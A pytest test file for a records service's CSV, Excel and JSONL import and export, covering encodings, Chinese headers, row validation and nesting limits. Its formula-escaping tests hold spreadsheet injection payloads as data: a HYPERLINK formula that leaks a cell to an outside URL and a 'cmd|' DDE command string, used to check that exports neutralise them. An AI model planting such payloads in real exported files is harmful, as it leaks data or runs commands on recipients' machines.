"""Import and export: three formats, two header styles, three encodings, and whole-file rejection."""
from __future__ import annotations

import csv
import json

import openpyxl
import pytest

from service import importers, store
from service.records import FIELDS

from .record_files import write_jsonl
from .records import DEMAND, SUPPLY


def chinese_row(record: dict, kind: str) -> dict:
    headers = {field.key: field.header for field in FIELDS[kind]}
    return {headers.get(key, key): value for key, value in record.items()}


def write_csv(path, rows: list[dict], encoding: str):
    with open(path, "w", encoding=encoding, newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        for row in rows:
            writer.writerow({key: "、".join(value) if isinstance(value, list) else value for key, value in row.items()})
    return path


def write_xlsx(path, rows: list[dict]):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(rows[0]))
    for row in rows:
        sheet.append(["、".join(value) if isinstance(value, list) else value for value in row.values()])
    workbook.save(path)
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
@pytest.mark.parametrize("header_style", ["keys", "chinese"])
def test_csv_imports_in_every_encoding_and_header_style(tmp_path, encoding, header_style):
    row = DEMAND if header_style == "keys" else chinese_row(DEMAND, "demands")
    path = write_csv(tmp_path / "demands.csv", [row], encoding)
    assert importers.read_records(path, "demands") == [DEMAND]


@pytest.mark.parametrize("header_style", ["keys", "chinese"])
def test_xlsx_imports_with_either_header_style(tmp_path, header_style):
    row = SUPPLY if header_style == "keys" else chinese_row(SUPPLY, "supplies")
    path = write_xlsx(tmp_path / "supplies.xlsx", [row])
    assert importers.read_records(path, "supplies") == [SUPPLY]


def test_jsonl_accepts_chinese_headers_and_keyword_strings(tmp_path):
    row = chinese_row({**DEMAND, "keywords": "注塑，缩痕;良品率"}, "demands")
    path = write_jsonl(tmp_path / "d.jsonl", [row])
    assert importers.read_records(path, "demands") == [DEMAND]


def test_unknown_keys_are_kept_through_store_and_export(tmp_path, db):
    path = write_jsonl(tmp_path / "d.jsonl", [{**DEMAND, "所属园区": "创新园"}])
    importers.import_files(db, "demands", [path])
    assert store.get_record(db, "demands", "D-001")["所属园区"] == "创新园"
    assert store.export_records(db, "demands")[0]["所属园区"] == "创新园"


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".xlsx"])
@pytest.mark.parametrize("headers", ["zh", "keys"])
def test_export_then_import_gives_back_the_same_records(tmp_path, db, suffix, headers):
    records = [DEMAND, {**DEMAND, "id": "D-002", "keywords": [], "budget_wan": 12.5, "contact": None,
                        "备注": "=1+1"}]
    store.upsert_records(db, "demands", [importers.read_records(write_jsonl(tmp_path / "in.jsonl", [r]), "demands")[0]
                                         for r in records])
    exported = store.export_records(db, "demands")
    path = tmp_path / f"out{suffix}"
    importers.write_records(exported, path, "demands", headers=headers)
    assert importers.read_records(path, "demands") == exported


def test_excel_export_keeps_formula_like_text_as_text(tmp_path):
    path = tmp_path / "out.xlsx"
    importers.write_records([{**DEMAND, "title": "=HYPERLINK(\"x\")"}], path, "demands")
    cell = openpyxl.load_workbook(path).active["B2"]
    assert cell.data_type == "s" and cell.value == "=HYPERLINK(\"x\")"


HOSTILE_TITLE = '=HYPERLINK("http://x?leak="&A1,"x")'
# Text that starts like a formula, and text that only looks like it; the last four must come back untouched.
FORMULA_LIKE = {"title": HOSTILE_TITLE, "enterprise": "+86 0631-5120", "region": "@区市", "contact": "-",
                "industry_chain": "-2+3+cmd|' /C calc'!A0", "cooperation_mode": "'=引号开头",
                "温度": "-3.5", "备注": "--", "负数": -3, "说明": "'普通文本"}


def read_csv_cells(path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as source:
        return list(csv.DictReader(source))


def test_csv_export_writes_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    path = tmp_path / "out.csv"
    importers.write_records([{**DEMAND, **FORMULA_LIKE, "=列名": "x"}], path, "demands", headers="keys")
    [row] = read_csv_cells(path)
    assert row["title"] == "'" + HOSTILE_TITLE
    assert (row["enterprise"], row["region"]) == ("'+86 0631-5120", "'@区市")
    assert row["industry_chain"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["cooperation_mode"] == "''=引号开头"   # one more quote, so that import gives the text back
    assert (row["contact"], row["温度"], row["备注"], row["负数"], row["说明"]) == ("-", "-3.5", "--", "-3", "'普通文本")
    assert row["budget_wan"] == "50" and row["'=列名"] == "x"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_text_survives_an_export_and_import_round_trip(tmp_path, suffix):
    record = importers.read_records(write_jsonl(tmp_path / "in.jsonl", [{**DEMAND, **FORMULA_LIKE}]), "demands")[0]
    path = tmp_path / f"out{suffix}"
    importers.write_records([record], path, "demands")
    [back] = importers.read_records(path, "demands")
    assert back == {**record, "负数": "-3" if suffix == ".csv" else -3}   # a CSV cell carries no type


def test_excel_export_marks_every_formula_like_text_cell_as_quoted_text(tmp_path):
    path = tmp_path / "out.xlsx"
    importers.write_records([{**DEMAND, **FORMULA_LIKE, "状态码": "#N/A"}], path, "demands", headers="keys")
    sheet = openpyxl.load_workbook(path).active
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
    for key in ("title", "enterprise", "region", "industry_chain"):
        assert cells[key].data_type == "s" and cells[key].quotePrefix, key
    assert cells["状态码"].data_type == "s" and cells["状态码"].value == "#N/A"   # not an Excel error value
    assert cells["contact"].value == "-" and not cells["contact"].quotePrefix
    assert cells["budget_wan"].data_type == "n" and cells["负数"].value == -3


def test_the_cli_export_escapes_formula_like_text(invoke, tmp_path):
    demands = write_jsonl(tmp_path / "d.jsonl", [{**DEMAND, "title": HOSTILE_TITLE}])
    supplies = write_jsonl(tmp_path / "s.jsonl", [{**SUPPLY, "platform": "=1+2"}])
    assert invoke("import", "demands", demands).exit_code == 0 and invoke("import", "supplies", supplies).exit_code == 0
    assert invoke("export", "demands", "-o", tmp_path / "d.csv").exit_code == 0
    assert invoke("export", "supplies", "-o", tmp_path / "s.csv").exit_code == 0
    assert read_csv_cells(tmp_path / "d.csv")[0]["需求名称"] == "'" + HOSTILE_TITLE
    assert read_csv_cells(tmp_path / "s.csv")[0]["平台名称"] == "'=1+2"


BAD_ROWS = [
    ({"title": ""}, "title", "必填"),
    ({"description": None}, "description", "必填"),
    ({"budget_wan": "三十万"}, "budget_wan", "应为数字"),
    ({"budget_wan": -5}, "budget_wan", "非负"),
    ({"industry_cluster": "人工智能"}, "industry_cluster", "不在允许范围内"),
    ({"posted_at": "去年春天"}, "posted_at", "应为日期"),
    ({"posted_at": "2021-02-30"}, "posted_at", "应为日期"),
    ({"keywords": {"a": 1}}, "keywords", "列表"),
    ({"title": ["a", "b"]}, "title", "应为文本"),
    ({"status": "进行中"}, "status", "不在允许范围内"),
]


@pytest.mark.parametrize("change,field,words", BAD_ROWS)
def test_one_bad_row_rejects_the_file_naming_row_and_field(tmp_path, db, change, field, words):
    rows = [DEMAND, {**DEMAND, "id": "D-002", **change}, {**DEMAND, "id": "D-003"}]
    path = write_jsonl(tmp_path / "d.jsonl", rows)
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.import_files(db, "demands", [path])
    [problem] = rejected.value.problems
    assert (problem.row, problem.field) == (2, field)
    assert words in problem.message
    assert store.count_records(db, "demands") == 0


def test_duplicate_id_inside_a_file_is_rejected(tmp_path):
    path = write_jsonl(tmp_path / "d.jsonl", [DEMAND, DEMAND])
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.read_records(path, "demands")
    [problem] = rejected.value.problems
    assert (problem.row, problem.field) == (2, "id") and "重复" in problem.message


def test_unreadable_encoding_is_rejected_with_a_clear_message(tmp_path):
    path = tmp_path / "d.csv"
    path.write_bytes("id,title,description\n".encode() + b"\x81\x20\xff\xfe\n")
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.read_records(path, "demands")
    assert "编码" in str(rejected.value)


@pytest.mark.parametrize("content,words", [(b"{not json\n", "JSON"), (b"[1, 2]\n", "JSON 对象")])
def test_broken_jsonl_lines_are_reported_by_line(tmp_path, content, words):
    path = tmp_path / "d.jsonl"
    path.write_bytes(content)
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.read_records(path, "demands")
    assert rejected.value.problems[0].row == 1 and words in rejected.value.problems[0].message



def nested(levels: int) -> str:
    """A JSON array nested `levels` deep."""
    return "[" * levels + "]" * levels


@pytest.mark.parametrize("levels", [1000, 500, 33])
def test_a_jsonl_line_nested_too_deep_is_a_row_error_and_nothing_is_written(tmp_path, db, invoke, levels):
    path = tmp_path / "d.jsonl"
    deep = json.dumps({**DEMAND, "id": "D-002", "附件": "PLACEHOLDER"}, ensure_ascii=False).replace('"PLACEHOLDER"',
                                                                                                  nested(levels))
    path.write_text(json.dumps(DEMAND, ensure_ascii=False) + "\n" + deep + "\n", encoding="utf-8")
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.import_files(db, "demands", [path])
    [problem] = rejected.value.problems
    assert problem.row == 2 and "嵌套层数过多" in problem.message
    assert store.count_records(db, "demands") == 0
    result = invoke("import", "demands", path)
    assert result.exit_code == 2 and "d.jsonl 第 2 行：JSON 嵌套层数过多" in result.output


def test_a_jsonl_line_nested_within_the_limit_is_kept(tmp_path, db):
    path = tmp_path / "d.jsonl"
    path.write_text(json.dumps({**DEMAND, "附件": json.loads(nested(31))}, ensure_ascii=False) + "\n", encoding="utf-8")
    assert importers.import_files(db, "demands", [path]) == 1

def test_a_corrupt_xlsx_is_rejected(tmp_path):
    path = tmp_path / "d.xlsx"
    path.write_bytes(b"PK\x03\x04 this is not a workbook")
    with pytest.raises(importers.ImportRejected, match="Excel"):
        importers.read_records(path, "demands")


def test_import_upserts_by_id(tmp_path, db):
    importers.import_files(db, "demands", [write_jsonl(tmp_path / "a.jsonl", [DEMAND])])
    importers.import_files(db, "demands", [write_jsonl(tmp_path / "b.jsonl", [{**DEMAND, "title": "新标题"}])])
    assert store.count_records(db, "demands") == 1
    record = store.get_record(db, "demands", "D-001")
    assert record["title"] == "新标题" and record["version"] == 2


def test_cooperations_must_point_at_existing_records(tmp_path, db):
    importers.import_files(db, "demands", [write_jsonl(tmp_path / "d.jsonl", [DEMAND])])
    path = write_jsonl(tmp_path / "c.jsonl", [{"demand_id": "D-001", "supply_id": "S-404", "amount_wan": 10}])
    with pytest.raises(importers.ImportRejected) as rejected:
        importers.import_files(db, "cooperations", [path])
    [problem] = rejected.value.problems
    assert (problem.row, problem.field) == (1, "supply_id") and "不存在" in problem.message
